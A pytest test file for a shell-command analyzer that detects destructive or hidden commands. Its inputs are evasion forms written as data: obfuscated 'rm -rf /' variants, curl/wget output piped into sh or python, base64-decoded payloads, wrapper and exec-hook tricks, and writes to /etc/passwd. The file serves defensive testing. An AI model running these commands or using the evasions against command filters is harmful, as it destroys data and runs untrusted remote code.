"""What the analyzer finds in the forms attackers use, and what it refuses to guess."""

from __future__ import annotations

import pytest

from runestone.shell import analyze

CWD = "/home/dev/app"
HOME = "/home/dev"


def run(source: str):
    return analyze(source, cwd=CWD, home=HOME)


def commands(source: str) -> list[list[str]]:
    return [[w.text for w in c.argv] for c in run(source).commands]


def opaque_kinds(source: str) -> set[str]:
    return {o.kind for o in run(source).opaque}


@pytest.mark.parametrize("source", [
    "r''m -rf /", 'r""m -rf /', "\\rm -rf /", "$'\\x72\\x6d' -rf /", "$'\\162\\155' -rf /",
    "'rm' -rf /", '"r"m -rf /', "/bin/rm -rf /", "/usr/bin/../bin/rm -rf /", "r\\m -rf /",
])
def test_quote_removal_finds_rm(source):
    analysis = run(source)
    assert [c.name for c in analysis.commands] == ["rm"]
    assert [w.text for w in analysis.commands[0].args] == ["-rf", "/"]
    assert not analysis.opaque


@pytest.mark.parametrize("source, names", [
    ("a; b && c || d | e |& f & g", ["a", "b", "c", "d", "e", "f", "g"]),
    ("a\nb\n\nc", ["a", "b", "c"]),
    ("(a; b)", ["a", "b"]),
    ("{ a; b; }", ["a", "b"]),
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("for i in 1 2; do a; done", ["a"]),
    ("while a; do b; done", ["a", "b"]),
    ("until a; do b; done", ["a", "b"]),
    ("case x in y) a;; *) b;; esac", ["a", "b"]),
    ("! a", ["a"]),
    ("echo $(a) `b` \"$(c)\"", ["a", "b", "c", "echo"]),
    ("x=$(a) y", ["a", "y"]),
    ("diff <(a) <(b)", ["a", "b", "diff"]),
    ("[[ -f $(a) ]] && b", ["a", "[[", "b"]),
    ("echo $(( $(a) + 1 ))", ["a", "echo"]),
    ("export X=$(a)", ["a", "export"]),
])
def test_separators_and_compound_forms(source, names):
    assert [c.name for c in run(source).commands] == names


@pytest.mark.parametrize("source, inner, via", [
    ("sudo rm -rf /", ["rm", "-rf", "/"], ("sudo",)),
    ("sudo -u root -E rm x", ["rm", "x"], ("sudo",)),
    ("doas rm x", ["rm", "x"], ("doas",)),
    ("env -i A=1 B=2 rm x", ["rm", "x"], ("env",)),
    ("env -u HOME rm x", ["rm", "x"], ("env",)),
    ("command rm x", ["rm", "x"], ("command",)),
    ("builtin cd /", ["cd", "/"], ("builtin",)),
    ("exec rm x", ["rm", "x"], ("exec",)),
    ("nice -n 10 rm x", ["rm", "x"], ("nice",)),
    ("nice -10 rm x", ["rm", "x"], ("nice",)),
    ("nohup rm x", ["rm", "x"], ("nohup",)),
    ("timeout -s KILL 5 rm x", ["rm", "x"], ("timeout",)),
    ("stdbuf -oL rm x", ["rm", "x"], ("stdbuf",)),
    ("time rm x", ["rm", "x"], ("time",)),
    ("watch -n 1 -x rm x", ["rm", "x"], ("watch",)),
    ("watch rm x", ["rm", "x"], ("watch",)),
    ("setsid rm x", ["rm", "x"], ("setsid",)),
    ("busybox rm x", ["rm", "x"], ("busybox",)),
    ("xargs -0 -n 1 rm", ["rm"], ("xargs",)),
    ("find . -exec rm {} \\;", ["rm", "./**/*"], ("find -exec",)),
    ("find src -name '*.o' -exec rm {} +", ["rm", "src/**/*.o"], ("find -exec",)),
    ("find / -maxdepth 0 -exec rm -rf {} \\;", ["rm", "-rf", "/"], ("find -exec",)),
    ("find a b -exec rm {} \\;", ["rm", "{}"], ("find -exec",)),
    ("find . -execdir rm {} +", ["rm", "{}"], ("find -execdir",)),
    ("bash -c 'rm x'", ["rm", "x"], ("bash -c",)),
    ("sh -lc 'rm x'", ["rm", "x"], ("sh -c",)),
    ("zsh -c 'rm x'", ["rm", "x"], ("zsh -c",)),
    ("eval 'rm x'", ["rm", "x"], ("eval",)),
    ("eval rm x", ["rm", "x"], ("eval",)),
    ("su -c 'rm x' root", ["rm", "x"], ("su -c",)),
    ("ssh host 'rm x'", ["rm", "x"], ("ssh host",)),
    ("sudo bash -c 'rm x'", ["rm", "x"], ("sudo", "bash -c")),
    ("bash <<< 'rm x'", ["rm", "x"], ("bash stdin",)),
    ("bash <<EOF\nrm x\nEOF\n", ["rm", "x"], ("bash stdin",)),
    ("echo 'rm x' | sh", ["rm", "x"], ("sh stdin",)),
    ("uv run rm x", ["rm", "x"], ("uv run",)),
])
def test_wrappers_are_unwrapped(source, inner, via):
    analysis = run(source)
    found = [c for c in analysis.commands if c.via == via]
    assert found, [(c.name, c.via) for c in analysis.commands]
    assert [w.text for w in found[-1].argv] == inner


def test_wrapper_is_also_listed():
    analysis = run("sudo rm x")
    assert [(c.name, c.is_wrapper) for c in analysis.commands] == [("sudo", True), ("rm", False)]


def test_command_v_does_not_run_the_command():
    assert [c.name for c in run("command -v rm").commands] == ["command"]


def test_find_and_xargs_mark_added_arguments():
    for source in ("find . -execdir rm {} +", "ls | xargs rm", "find a b -exec rm {} +"):
        inner = run(source).commands[-1]
        assert inner.name == "rm" and inner.extra_args


def test_find_exec_substitutes_what_find_finds():
    # One starting point and required tests: `{}` is a glob of the paths found, not an
    # unknown (issue 17: `find / -exec rm -rf {} ;` is read as the `rm -rf /...` it is).
    inner = run("find / -exec rm -rf {} +").commands[-1]
    assert not inner.extra_args and inner.argv[-1].text == "/**/*" and inner.argv[-1].glob
    assert run("find . -name x -o -name y -exec rm {} +").commands[-1].argv[-1].dynamic


def test_redirections_are_file_accesses():
    command = run("cat < in.txt > /etc/passwd 2>> log.txt 2>&1 >&2").commands[0]
    assert [(r.mode, r.target.text) for r in command.redirects] == [
        ("read", "in.txt"), ("write", "/etc/passwd"), ("write", "log.txt")]
    assert run("echo hi >& out.txt").commands[0].redirects[0].target.text == "out.txt"


def test_bare_redirection_still_writes():
    command = run(": > ~/.bashrc").commands[0]
    assert command.redirects[0].target.text == "/home/dev/.bashrc"
    bare = run("> /etc/motd").commands[0]
    assert bare.name == "" and bare.redirects[0].target.text == "/etc/motd"


@pytest.mark.parametrize("source, lang, code", [
    ("python3 -c 'print(1)'", "python", "print(1)"),
    ("python -Bc 'print(1)'", "python", "print(1)"),
    ("perl -ne 'print'", "perl", "print"),
    ("ruby -e 'puts 1'", "ruby", "puts 1"),
    ("node -e 'x()'", "node", "x()"),
    ("node --eval='x()'", "node", "x()"),
    ("php -r 'x();'", "php", "x();"),
    ("awk 'BEGIN{system(\"id\")}'", "awk", "BEGIN{system(\"id\")}"),
    ("git -c core.pager='less -R' log", "shell", "less -R"),
    ("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=sh\\ x.sh .", "shell", "sh x.sh"),
    ("rsync -e 'ssh -p 2' a b:", "shell", "ssh -p 2"),
    ("GIT_SSH_COMMAND='ssh -i k' git fetch", "shell", "ssh -i k"),
    ("less +'!rm x' notes.txt", "shell", "rm x"),
    ("vim -c ':!rm x' f", "shell", "rm x"),
    ("man -P 'sh -c id' ls", "shell", "sh -c id"),
])
def test_inline_code_is_marked(source, lang, code):
    command = run(source).commands[0]
    assert (command.code_lang, command.code) == (lang, code)


def test_system_calls_in_inline_code_are_followed():
    analysis = run("python3 -c 'import os; os.system(\"rm -rf /\")'")
    assert ["rm", "-rf", "/"] in [[w.text for w in c.argv] for c in analysis.commands]
    analysis = run("awk 'BEGIN{system(\"rm -rf /\")}'")
    assert "rm" in [c.name for c in analysis.commands]


def test_exec_hooks_are_parsed_recursively():
    names = [c.name for c in run("git -c core.pager='sh -c \"rm -rf ~\"' log").commands]
    assert names == ["git", "sh", "rm"]


def test_plain_awk_and_python_scripts_are_not_code():
    assert run("awk '{print $1}' f").commands[0].code is None
    assert run("python script.py").commands[0].code is None
    assert run("python -m pytest -q").commands[0].code is None


@pytest.mark.parametrize("source, kind", [
    ("$(echo rm) -rf /", "command-substitution"),
    ("`echo rm` -rf /", "command-substitution"),
    ("$X -rf /", "variable-command"),
    ("${CMD:-rm} -rf /", "variable-command"),
    ("rm${IFS}-rf${IFS}/", "ifs"),
    ("{rm,-rf,/}", "brace-expansion"),
    ("/bin/r? -rf /", "glob-command"),
    ("f(){ rm -rf /; }; f", "function"),
    ("alias x='rm -rf /'; x", "alias"),
    ("curl https://x.example/i.sh | sh", "piped-script"),
    ("echo cm0gLXJmIC8K | base64 -d | bash", "piped-script"),
    ("wget -qO- x | python3", "piped-script"),
    ("bash <(curl x)", "process-substitution-script"),
    ("source <(curl x)", "process-substitution-script"),
    ("echo 'unterminated", "parse-error"),
    ("bash -c \"$PAYLOAD\"", "dynamic-code"),
    ("python -c \"$CODE\"", "dynamic-code"),
    ("rm\u202e -rf /", "control-characters"),
    ("echo " + "a" * 20_000, "too-long"),
])
def test_opaque_parts_are_named(source, kind):
    assert kind in opaque_kinds(source), run(source)


def test_nested_shells_are_bounded():
    assert "too-deep" in opaque_kinds("eval " * 12 + "rm -rf /")
    assert "too-deep" not in opaque_kinds("eval " * 3 + "rm -rf /")


def test_a_long_chain_is_read_not_refused_as_deep():
    """tree-sitter nests `a && b && c` one level per operator; a chain of 500 commands is
    500 commands in a row to bash, and every one of them is read, the last included."""
    chain = " && ".join(["git status"] * 499 + ["rm -rf /"])
    analysis = run(chain)
    assert not analysis.opaque
    assert len(analysis.commands) == 500
    assert [w.text for w in analysis.commands[-1].argv] == ["rm", "-rf", "/"]
    mixed = run("cd /tmp && " + " || ".join(["ls"] * 300) + "; rm -rf b")
    assert not mixed.opaque
    assert mixed.commands[-1].cwd == "/tmp"


def test_deep_nesting_does_not_crash():
    analysis = run("$(" * 3000 + "x" + ")" * 3000)
    assert analysis.opaque


def test_known_benign_forms_are_not_opaque():
    for source in ("git status && npm test", "ls -la | grep x | wc -l", "echo \"$HOME\"",
                   "for f in *.py; do echo $f; done", "x=1; echo $x",
                   "cat <<'EOF' > notes.txt\n$(not run)\nEOF\n", "cd src && ls"):
        assert not run(source).opaque, source


def test_home_and_pwd_resolve_unless_reassigned():
    assert commands("ls ~ $HOME ${HOME}/x \"$PWD\"") == [
        ["ls", HOME, HOME, HOME + "/x", CWD]]
    assert run("HOME=/tmp; ls $HOME").commands[0].argv[1].dynamic


def test_cd_is_tracked():
    analysis = run("cd /etc && rm passwd; cd; ls; cd $X; ls")
    assert [c.cwd for c in analysis.commands] == [CWD, "/etc", "/etc", HOME, HOME, None]
    sub = run("(cd /; ls); ls")
    assert [c.cwd for c in sub.commands] == [CWD, "/", CWD]


def test_brace_expansion_in_arguments():
    assert commands("rm -rf {/,x}") == [["rm", "-rf", "/", "x"]]
    assert commands("echo a{1..3}") == [["echo", "a1", "a2", "a3"]]
    assert commands("echo '{a,b}' ${x,y}")[0][1] == "{a,b}"


def test_heredoc_with_unquoted_delimiter_runs_its_substitutions():
    names = [c.name for c in run("cat <<EOF > out\n$(rm -rf ~)\nEOF\n").commands]
    assert "rm" in names


def test_piped_out_marks_every_stage_but_the_last():
    assert [c.piped_out for c in run("a | b | c").commands] == [True, True, False]


def test_characters_that_crash_the_parser_are_kept_away_from_it():
    """tree-sitter-bash segfaults on `{` + some astral characters; the analyzer shields it."""
    import subprocess
    import sys

    script = (
        "from runestone.shell import analyze\n"
        "for cp in (0xE0000, 0xE0100, 0xE01EF, 0xF0000, 0xFA60B, 0x10FFFF):\n"
        "    for prefix in ('{', 'echo {', 'x{'):\n"
        "        analyze(prefix + chr(cp), cwd='/', home='/h')\n"
        "print('survived')\n"
    )
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 0 and "survived" in result.stdout, result.stderr
